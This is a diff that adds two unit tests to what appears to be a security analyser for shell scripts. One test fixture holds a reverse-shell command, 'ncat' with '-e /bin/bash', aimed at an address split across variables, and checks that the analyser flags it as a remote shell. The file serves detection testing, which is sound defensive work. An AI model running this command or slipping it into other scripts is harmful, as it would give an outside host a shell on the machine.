@@ -58,3 +58,15 @@ def test_arithmetic_is_worked_out_for_integers_only() -> None:
     assert _arithmetic("2**64", {}) is None
     assert _arithmetic("unknown + 1", {}) is None
     assert _arithmetic("1 / 0", {}) is None
+
+
+def test_an_argument_split_after_an_expansion_and_a_dot_is_one_word(tmp_path: Path) -> None:
+    source = "p=198; q=51; r=100; s=23\nncat $p.$q.$r.$s 7001 -e /bin/bash\n"
+    found = analyse_file(tmp_path, "scripts/check.sh", source, Language.SHELL)
+    assert (Kind.RAW_SOCKET, "198.51.100.23:7001 (remote shell)") in summary(found)
+
+
+def test_separate_arguments_stay_separate(tmp_path: Path) -> None:
+    source = 'x=1; y=2\nprintf "%s %s\\n" $x.$y $y.$x\n'
+    found = analyse_file(tmp_path, "scripts/print.sh", source, Language.SHELL)
+    assert found == []
